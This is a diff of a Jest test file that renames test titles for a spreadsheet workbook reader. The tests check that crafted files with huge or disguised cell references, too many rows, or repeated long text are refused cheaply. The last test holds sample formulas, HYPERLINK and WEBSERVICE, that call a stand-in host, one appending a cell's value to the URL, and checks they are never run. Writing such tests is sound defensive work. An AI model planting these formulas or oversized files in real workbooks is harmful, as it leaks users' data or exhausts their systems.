@@ -31,7 +31,7 @@ test.each([
   ['a number of another kind', `${first}<row r="1e9">${cell('A2')}</row>`],
   ['no end', `${first}<row r="Infinity">${cell('A2')}</row>`],
   ['a disguised place', `<row r="1"><c r = '&#88;FD1'><v>1</v></c></row>`],
-])('a small file whose sheet has %s is no workbook, and costs nothing', async (_, rows) => {
+])('a small file whose sheet has %s is refused quickly', async (_, rows) => {
   const before = process.cpuUsage();
   expect(await readWorkbook(aWorkbook(rows))).toBeNull();
   const { user, system } = process.cpuUsage(before);
@@ -39,7 +39,7 @@ test.each([
   expect((user + system) / 1_000).toBeLessThan(500);
 });
 
-test('nor is one whose sheet stands in another part', async () => {
+test('a workbook whose sheet is in another part is refused', async () => {
   const rels = (workbookParts['xl/_rels/workbook.xml.rels'] ?? '').replace('worksheets/sheet1', 'other');
   const parts = { ...workbookParts, 'xl/_rels/workbook.xml.rels': rels };
   const other = (place: string) => `${sheetStart}${first}<row r="2">${cell(place)}</row>${sheetEnd}`;
@@ -50,7 +50,7 @@ test('nor is one whose sheet stands in another part', async () => {
   expect(await readWorkbook(made('XFD2'))).toBeNull();
 });
 
-test('one long text in every cell is more than a file may have', async () => {
+test('a long text shown in every cell counts in every cell, and is refused', async () => {
   const long = words('x'.repeat(1024 * 1024));
   const rows = (count: number) =>
     Array.from({ length: count }, (_, at) => `<row r="${at + 1}"><c r="A${at + 1}" t="s"><v>0</v></c></row>`);
@@ -58,7 +58,7 @@ test('one long text in every cell is more than a file may have', async () => {
   expect(await readWorkbook(aWorkbook(rows(40).join(''), long))).toBeNull();
 });
 
-test('rows and cells that have only a format do not count', async () => {
+test('rows and cells with only a format do not count', async () => {
   const format = '<row r="1048575" s="3" ht="12.8"/><row r="1048576" s="3"><c r="XFD1048576" s="3"/></row>';
   const read = await readWorkbook(aWorkbook(`${first}<row r="3">${cell('B3')}</row>${format}`));
   expect(read?.map(({ lineNo, fields }) => [lineNo, ...fields])).toEqual([
@@ -68,12 +68,12 @@ test('rows and cells that have only a format do not count', async () => {
   ]);
 });
 
-test('a hundred thousand rows are more than a file may have', async () => {
+test('a hundred thousand rows are refused', async () => {
   const rows = Array.from({ length: 100_000 }, (_, at) => `<row r="${at + 1}">${cell(`A${at + 1}`)}</row>`);
   expect(await readWorkbook(aWorkbook(rows.join('')))).toBeNull();
 });
 
-test('a formula is what it showed last, and nothing of it is run or looked up', async () => {
+test('a formula has its last shown value, and is never run', async () => {
   const formulas = [
     '<c r="A1" t="str"><f>HYPERLINK("http://x.example/"&amp;B1,"7")</f><v>7</v></c>',
     '<c r="B1"><f>WEBSERVICE("http://x.example")</f></c>',
